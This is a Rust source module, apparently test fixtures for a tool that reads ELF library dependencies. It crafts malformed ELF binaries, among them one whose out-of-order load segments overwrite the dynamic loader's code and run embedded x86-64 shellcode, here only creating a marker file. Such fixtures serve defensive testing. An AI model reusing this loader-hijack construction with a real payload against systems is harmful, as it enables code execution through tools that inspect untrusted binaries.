//! Programs that attack tools which look for their libraries.

#![allow(unreachable_pub, reason = "a private module where other crates include this file")]

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;

const PAGE: usize = 0x1000;
const INTERPRETER: usize = 0x300;
const LOADER: &[u8] = b"/lib64/ld-linux-x86-64.so.2\0";
const LOAD: u32 = 1;
const DYNAMIC_SEGMENT: u32 = 2;
const INTERPRETER_SEGMENT: u32 = 3;

/// The headers of a program without sections, from `(kind, offset, address, size)` of its segments.
fn headers(bytes: &mut [u8], entry: u64, segments: &[(u32, u64, u64, u64)]) {
    let mut put = |at: usize, part: &[u8]| bytes[at..at + part.len()].copy_from_slice(part);
    // Class 64, little-endian, ET_DYN for x86-64; program headers right behind.
    put(0, b"\x7fELF\x02\x01\x01");
    put(16, &[3, 0, 62, 0, 1, 0, 0, 0]);
    put(24, &entry.to_le_bytes());
    put(32, &64u64.to_le_bytes());
    put(52, &[64, 0, 56, 0, segments.len() as u8, 0]);
    for (at, (kind, offset, address, size)) in segments.iter().enumerate() {
        put(64 + 56 * at, &kind.to_le_bytes());
        put(68 + 56 * at, &5u32.to_le_bytes());
        let numbers = [*offset, *address, *address, *size, *size, PAGE as u64];
        put(72 + 56 * at, &numbers.map(u64::to_le_bytes).concat());
    }
    put(INTERPRETER, LOADER);
}

/// Returns a program that takes over the dynamic loader that maps it, and then makes a file.
///
/// Its parts to load (PT_LOAD) do not ascend. A loader reserves memory from the first to the last
/// of them, right below itself. The second lies far behind the last, over the loader's own text. So
/// mapping the file replaces the mapping code, and the loader goes on in code of the file.
pub fn takes_over_the_loader(makes: &OsStr) -> Vec<u8> {
    // Longer than any loader, so that each place in it is hit.
    const CODE: usize = 0x80000;
    const DYNAMIC: usize = 0x400;
    let path = [makes.as_bytes(), b"\0"].concat();
    // open(path, O_CREAT | O_WRONLY, 0600); exit_group(0)
    let code = [
        &[0x48, 0x8d, 0x3d, 26, 0, 0, 0][..], // lea rdi, [rip + 26]
        &[0xbe, 0x41, 0, 0, 0],               // mov esi, 0x41
        &[0xba, 0x80, 1, 0, 0],               // mov edx, 0600
        &[0xb8, 2, 0, 0, 0],                  // mov eax, 2
        &[0x0f, 0x05],                        // syscall
        &[0x31, 0xff],                        // xor edi, edi
        &[0xb8, 231, 0, 0, 0],                // mov eax, 231
        &[0x0f, 0x05],                        // syscall
        &path,
    ]
    .concat();
    let mut bytes = vec![0; PAGE];
    bytes.resize(PAGE + CODE - code.len(), 0x90); // nop
    let entry = (bytes.len() + PAGE) as u64;
    bytes.extend(code);
    let (page, dynamic, interpreter) = (PAGE as u64, DYNAMIC as u64, INTERPRETER as u64);
    let segments = [
        (INTERPRETER_SEGMENT, interpreter, interpreter, LOADER.len() as u64),
        (LOAD, 0, 0, page),
        (LOAD, page, 2 * page, CODE as u64),
        (LOAD, 0, page, page),
        (DYNAMIC_SEGMENT, dynamic, dynamic, 0x100),
    ];
    headers(&mut bytes, entry, &segments);
    // DT_STRTAB and its size: without them no loader maps a file.
    let section = [5u64, 0x600, 10, 16, 0, 0].map(u64::to_le_bytes).concat();
    bytes[DYNAMIC..DYNAMIC + section.len()].copy_from_slice(&section);
    bytes
}

/// Offset of the dynamic section in the file of [`with_dynamic_section`].
pub const DYNAMIC: usize = PAGE;

/// Returns a program of headers, a dynamic section and the texts of that section only.
pub fn with_dynamic_section(entries: &[(i64, u64)], texts: &[u8]) -> Vec<u8> {
    const DT_STRTAB: i64 = 5;
    let size = 16 * (entries.len() + 2);
    let strings = DYNAMIC + size;
    let mut bytes = vec![0; DYNAMIC];
    let all = [&[(DT_STRTAB, strings as u64)], entries, &[(0, 0)]].concat();
    let numbers = all.iter().flat_map(|(tag, value)| [tag.to_le_bytes(), value.to_le_bytes()]);
    bytes.extend(numbers.flatten());
    bytes.extend(texts);
    let (dynamic, interpreter) = (DYNAMIC as u64, INTERPRETER as u64);
    let segments = [
        (INTERPRETER_SEGMENT, interpreter, interpreter, LOADER.len() as u64),
        (LOAD, 0, 0, bytes.len() as u64),
        (DYNAMIC_SEGMENT, dynamic, dynamic, size as u64),
    ];
    headers(&mut bytes, 0, &segments);
    bytes
}

/// Joins texts, and returns the place of each.
pub fn texts(all: impl Iterator<Item = String>) -> (Vec<u8>, Vec<u64>) {
    let mut bytes = vec![0];
    let places = all
        .map(|text| {
            let place = bytes.len() as u64;
            bytes.extend(text.as_bytes());
            bytes.push(0);
            place
        })
        .collect();
    (bytes, places)
}
